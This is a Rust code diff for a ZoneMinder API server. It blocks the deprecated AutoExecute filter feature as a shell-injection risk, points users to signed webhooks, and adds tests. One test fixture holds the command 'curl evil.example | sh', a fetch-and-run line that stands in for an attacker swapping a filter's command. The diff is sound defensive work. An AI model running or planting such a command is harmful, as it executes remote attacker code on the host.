@@ -38,23 +38,68 @@ fn not_found(id: u32) -> AppError {
 // their own filters unless they hold the System permission: `System >= View`
 // can see all filters, `System == Edit` can manage (and reassign) all — which
 // also protects ZoneMinder's built-in system filters (e.g. PurgeWhenFull) from
-// deletion by ordinary users.
+// deletion by ordinary users. Saved searches and jobs share the same rule.
 
-fn can_view_all(claims: &UserClaims) -> bool {
+pub(crate) fn can_view_all(claims: &UserClaims) -> bool {
     matches!(
         claims.perms.level(Feature::System),
         Level::View | Level::Edit
     )
 }
 
-fn can_manage_all(claims: &UserClaims) -> bool {
+pub(crate) fn can_manage_all(claims: &UserClaims) -> bool {
     matches!(claims.perms.level(Feature::System), Level::Edit)
 }
 
-fn owns(claims: &UserClaims, owner: Option<u32>) -> bool {
+pub(crate) fn owns(claims: &UserClaims, owner: Option<u32>) -> bool {
     owner == Some(claims.uid)
 }
 
+// ---- AutoExecute deprecation -----------------------------------------------
+// zmfilter.pl substitutes event values into `AutoExecuteCmd` unescaped and runs
+// it through a shell, so anyone who can edit a filter can execute code. Signed
+// webhooks (notification rules) replace it; new or edited filters may no longer
+// turn it on. See docs/FILTERS_PLAN.md, Subsystem 4.
+
+const AUTO_EXECUTE_DEPRECATED: &str = "AutoExecute is deprecated and can no \
+    longer be enabled: AutoExecuteCmd runs as an unescaped shell command. Use a \
+    notification rule with the webhook channel instead (POST \
+    /api/v3/notification-rules) — calls are HMAC-signed, retried and audited.";
+
+/// Refuse a request that would turn AutoExecute on, or that sets
+/// `AutoExecuteCmd` on a filter whose AutoExecute stays on (`current` is the
+/// stored flag, 0 on create) — swapping the command would otherwise run it.
+fn reject_auto_execute(
+    auto_execute: Option<u8>,
+    auto_execute_cmd: Option<&str>,
+    current: u8,
+) -> AppResult<()> {
+    let requested = auto_execute.unwrap_or(0) != 0;
+    let stays_on = auto_execute.unwrap_or(current) != 0;
+    if requested || (auto_execute_cmd.is_some() && stays_on) {
+        return Err(AppError::BadRequestError(AUTO_EXECUTE_DEPRECATED.into()));
+    }
+    Ok(())
+}
+
+/// Log every existing filter that still has `AutoExecute` set, once at
+/// startup, so operators know which ones to move to webhooks.
+pub async fn warn_auto_execute(state: &AppState) {
+    match repo::filters::find_auto_execute(state.db()).await {
+        Ok(rows) => {
+            for f in rows {
+                tracing::warn!(
+                    filter_id = f.id,
+                    name = %f.name,
+                    "filter has AutoExecute enabled; AutoExecuteCmd runs as an unescaped \
+                     shell command — replace it with a webhook notification rule"
+                );
+            }
+        }
+        Err(e) => tracing::debug!("AutoExecute check skipped: {e}"),
+    }
+}
+
 /// Filter list scope: `None` (all) for System viewers, else the caller's id.
 fn list_owner_scope(claims: &UserClaims) -> Option<u32> {
     if can_view_all(claims) {
@@ -166,6 +211,11 @@ pub async fn update(
     if !can_manage_all(claims) && !owns(claims, existing.user_id) {
         return Err(not_found(id));
     }
+    reject_auto_execute(
+        req.auto_execute,
+        req.auto_execute_cmd.as_deref(),
+        existing.auto_execute,
+    )?;
 
     // A structured AST, when supplied, is translated to ZoneMinder's flat
     // query_json (and validated by construction during translation).
@@ -194,6 +244,7 @@ pub async fn create(
     req: crate::dto::request::CreateFilterRequest,
     claims: &UserClaims,
 ) -> AppResult<FilterResponse> {
+    reject_auto_execute(req.auto_execute, req.auto_execute_cmd.as_deref(), 0)?;
     // A structured AST, when supplied, is translated to ZoneMinder's flat
     // query_json and wins over any raw string.
     let mut req = req;
@@ -456,4 +507,68 @@ mod tests {
             .expect("system admin may read any filter");
         assert_eq!(resp.id, 5);
     }
+
+    #[tokio::test]
+    async fn test_create_rejects_auto_execute() {
+        // Rejected before any query runs.
+        let db = MockDatabase::new(DatabaseBackend::MySql).into_connection();
+        let state = AppState::for_test_with_db(db);
+        let req = crate::dto::request::CreateFilterRequest {
+            name: "run".into(),
+            query_json: "{}".into(),
+            auto_execute: Some(1),
+            auto_execute_cmd: Some("/bin/true %EID%".into()),
+            ..Default::default()
+        };
+        let err = create(&state, req, &admin_claims())
+            .await
+            .expect_err("AutoExecute=1 must be rejected");
+        match err {
+            AppError::BadRequestError(msg) => assert!(msg.contains("webhook"), "{msg}"),
+            other => panic!("expected 400, got {other:?}"),
+        }
+    }
+
+    #[tokio::test]
+    async fn test_update_rejects_auto_execute() {
+        let db = MockDatabase::new(DatabaseBackend::MySql)
+            .append_query_results::<FilterModel, _, _>(vec![vec![mk_filter(2, "f")]])
+            .into_connection();
+        let state = AppState::for_test_with_db(db);
+        let req = crate::dto::request::UpdateFilterRequest {
+            auto_execute: Some(1),
+            ..Default::default()
+        };
+        let err = update(&state, 2, &req, &admin_claims())
+            .await
+            .expect_err("AutoExecute=1 must be rejected");
+        assert!(matches!(err, AppError::BadRequestError(_)));
+
+        // Explicitly turning it off is still allowed, with or without a command.
+        assert!(reject_auto_execute(Some(0), None, 1).is_ok());
+        assert!(reject_auto_execute(Some(0), Some("/bin/true"), 1).is_ok());
+    }
+
+    #[tokio::test]
+    async fn test_update_rejects_cmd_swap_while_auto_execute_is_on() {
+        let db = MockDatabase::new(DatabaseBackend::MySql)
+            .append_query_results::<FilterModel, _, _>(vec![vec![FilterModel {
+                auto_execute: 1,
+                auto_execute_cmd: Some("/bin/true %EID%".into()),
+                ..mk_filter(2, "f")
+            }]])
+            .into_connection();
+        let state = AppState::for_test_with_db(db);
+        let req = crate::dto::request::UpdateFilterRequest {
+            auto_execute_cmd: Some("curl evil.example | sh".into()),
+            ..Default::default()
+        };
+        let err = update(&state, 2, &req, &admin_claims())
+            .await
+            .expect_err("a new command on an AutoExecute filter must be rejected");
+        assert!(matches!(err, AppError::BadRequestError(_)));
+
+        // The command may still be edited on a filter that does not run it.
+        assert!(reject_auto_execute(None, Some("/bin/true"), 0).is_ok());
+    }
 }